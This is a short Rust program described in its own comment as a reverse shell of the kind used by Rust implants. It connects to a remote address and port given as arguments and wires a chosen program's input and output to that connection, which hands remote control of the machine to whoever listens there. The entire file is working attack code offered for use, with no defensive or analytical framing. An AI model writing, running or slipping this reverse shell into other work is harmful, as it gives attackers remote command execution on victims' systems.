//! A reverse shell as Rust implants do it: connect-rust ADDRESS:PORT PROGRAM [ARGS...]

use std::{env, io, net::TcpStream, os::fd::OwnedFd, process::Command};

fn main() -> io::Result<()> {
    let mut arguments = env::args().skip(1);
    let (Some(address), Some(program)) = (arguments.next(), arguments.next()) else {
        return Err(io::Error::other("connect-rust ADDRESS:PORT PROGRAM [ARGS...]"));
    };
    let connection = OwnedFd::from(TcpStream::connect(address)?);
    let mut shell = Command::new(program);
    shell
        .args(arguments)
        .stdin(connection.try_clone()?)
        .stdout(connection.try_clone()?)
        .stderr(connection);
    shell.status().map(|_| ())
}
